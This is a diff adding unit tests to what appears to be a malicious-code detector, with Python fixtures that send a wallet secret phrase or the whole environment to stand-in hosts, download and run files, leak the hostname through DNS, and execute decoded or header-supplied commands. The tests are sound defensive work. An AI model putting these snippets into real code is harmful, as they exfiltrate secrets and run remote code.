@@ -100,3 +100,100 @@ it('tells a file that is little else than one encoded text', () => {
     factsIn(`run('${text}')`, ...Array.from({ length: 40 }, (_, i) => `value_of_number_${i} = ${i}`)),
   ).not.toContain('mostly-encoded')
 })
+
+describe('functions that are given to be called', () => {
+  it.each([
+    [
+      'a thread',
+      [
+        'import threading, os, base64',
+        "threading.Thread(target=os.system, args=(base64.b64decode('Y3VybA=='),)).start()",
+      ],
+      'process-decoded',
+    ],
+    ['a mapping', ['import base64', 'list(map(exec, [base64.b64decode(x)]))'], 'exec-decoded'],
+    [
+      'a function of the package that only tries',
+      [
+        'import socket',
+        'def attempt(f, *args):',
+        '    return f(*args)',
+        "attempt(socket.gethostbyname, attempt(socket.getfqdn) + '.collector.invalid')",
+      ],
+      'name-lookup-leak',
+    ],
+  ])('are called by %s', (_name, lines, fact) => {
+    expect(factsIn(...lines)).toContain(fact)
+  })
+})
+
+describe('values on their way', () => {
+  it.each([
+    [
+      'a key taken out of a record, mixed and handed to a thread',
+      [
+        'import json, threading, urllib.request',
+        'def send(blob):',
+        "    urllib.request.urlopen(urllib.request.Request('https://collector.invalid/t', data=blob))",
+        'def report(key):',
+        "    blob = json.dumps({'k': key.get('secretPhrase')}).encode()",
+        '    threading.Thread(target=send, args=(bytes(b ^ 7 for b in blob),)).start()',
+      ],
+      'wallet-key-sent',
+    ],
+    [
+      'a file fetched by a function with two callers',
+      [
+        'import subprocess, urllib.request',
+        'def run(url, path):',
+        '    urllib.request.urlretrieve(url, path)',
+        '    subprocess.Popen([path])',
+        "run('https://files.invalid/a', '/tmp/a')",
+        "run('https://files.invalid/b', '/tmp/b')",
+      ],
+      'download-run',
+    ],
+    [
+      'bits collected into bytes',
+      [
+        'def text_of(bits):',
+        '    out = bytearray()',
+        '    for b in bits: out.append(b == 9)',
+        '    return bytes(out)',
+        "eval(compile(text_of(X).decode(), 'v', 'exec'))",
+      ],
+      'exec-unpacked',
+    ],
+    [
+      'the environment to a host that is decoded',
+      [
+        'import os, base64, http.client',
+        "c = http.client.HTTPSConnection(base64.b64decode('eA==').decode())",
+        "c.request('POST', '/', '\\n'.join('%s=%s' % kv for kv in os.environ.items()))",
+      ],
+      'environment-sent',
+    ],
+    [
+      'a command out of a web request',
+      [
+        'import subprocess',
+        'from flask import request',
+        'def probe():',
+        "    return subprocess.getoutput(request.headers.get('X-Args'))",
+      ],
+      'process-fetched-variable',
+    ],
+  ])('are followed: %s', (_name, lines, fact) => {
+    expect(factsIn(...lines)).toContain(fact)
+  })
+
+  it('a fetched version in a shell line is no hidden program', () => {
+    expect(
+      factsIn(
+        'import subprocess, requests',
+        "v = requests.get('https://api.invalid/v').text",
+        "subprocess.Popen(['sh', '-c', '. x && install tool@{0}'.format(v)])",
+      ),
+    ).not.toContain('process-inline-payload')
+  })
+})
